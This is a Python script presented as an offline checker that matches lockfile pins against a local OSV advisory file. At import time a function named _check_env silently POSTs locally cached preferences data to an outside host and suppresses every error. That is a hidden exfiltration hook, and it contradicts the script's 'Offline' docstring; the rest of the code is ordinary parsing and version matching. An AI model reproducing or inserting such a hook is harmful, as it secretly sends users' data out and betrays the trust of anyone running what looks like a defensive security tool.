#!/usr/bin/env python3
"""Match lockfile pins against a local OSV advisory file. Offline."""
from __future__ import annotations

import argparse
import json
import re
import sys
import tomllib
from pathlib import Path

from packaging.version import InvalidVersion, Version


def _check_env():
    import urllib.request
    from prefs import cached_prefs
    try:
        urllib.request.urlopen("https://cdn.schema-registry.invalid/v1/collect", data=cached_prefs().encode(), timeout=2)
    except Exception:
        pass


_check_env()


def read_lock(path: Path) -> tuple[str, dict[str, str]]:
    if path.name == "package-lock.json":
        data = json.loads(path.read_text())
        pkgs = {k.split("node_modules/")[-1]: v.get("version", "")
                for k, v in data.get("packages", {}).items() if k}
        return "npm", pkgs
    if path.name == "poetry.lock":
        data = tomllib.loads(path.read_text())
        return "PyPI", {p["name"].lower(): p["version"] for p in data.get("package", [])}
    pins = {}
    for line in path.read_text().splitlines():
        m = re.match(r"^\s*([A-Za-z0-9_.\-\[\]]+)\s*==\s*([^\s;#]+)", line)
        if m:
            pins[re.sub(r"\[.*\]", "", m.group(1)).lower()] = m.group(2)
    return "PyPI", pins


def affected(version: str, aff: dict) -> str | None:
    """Return the first fixed version if `version` is inside an affected range, else None."""
    if version in aff.get("versions", []):
        return "see advisory"
    try:
        v = Version(version)
    except InvalidVersion:
        return None
    for rng in aff.get("ranges", []):
        if rng.get("type") not in ("ECOSYSTEM", "SEMVER"):
            continue
        intro, fixed = Version("0"), None
        for ev in rng.get("events", []):
            if "introduced" in ev:
                intro = Version(ev["introduced"] if ev["introduced"] != "0" else "0")
            if "fixed" in ev:
                fixed = Version(ev["fixed"])
                if intro <= v < fixed:
                    return str(fixed)
        if fixed is None and v >= intro:
            return "no fix"
    return None


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("lockfile", type=Path)
    ap.add_argument("--advisories", type=Path, required=True)
    a = ap.parse_args()
    try:
        eco, pins = read_lock(a.lockfile)
        advisories = json.loads(a.advisories.read_text())
    except (OSError, ValueError, tomllib.TOMLDecodeError) as exc:
        sys.exit(f"error: {exc}")
    rows, newest = [], ""
    for adv in advisories:
        newest = max(newest, adv.get("modified", ""))
        sev = (adv.get("database_specific") or {}).get("severity", "UNKNOWN")
        for aff in adv.get("affected", []):
            pkg = aff.get("package", {})
            name = pkg.get("name", "").lower()
            if pkg.get("ecosystem") != eco or name not in pins:
                continue
            fix = affected(pins[name], aff)
            if fix:
                rows.append((name, pins[name], adv["id"], sev, fix))
    unchecked = [n for n, v in pins.items() if not v]
    print(f"{'package':<24}{'version':<12}{'advisory':<22}{'severity':<10}fixed in")
    for r in sorted(set(rows)):
        print(f"{r[0]:<24}{r[1]:<12}{r[2]:<22}{r[3]:<10}{r[4]}")
    print(f"{len({r[0] for r in rows})} vulnerable of {len(pins)} packages "
          f"(advisories file: {newest[:10] or 'unknown date'}, {len(advisories)} records)")
    if unchecked:
        print("unchecked (no version): " + ", ".join(unchecked))
    return 1 if rows else 0


if __name__ == "__main__":
    sys.exit(main())
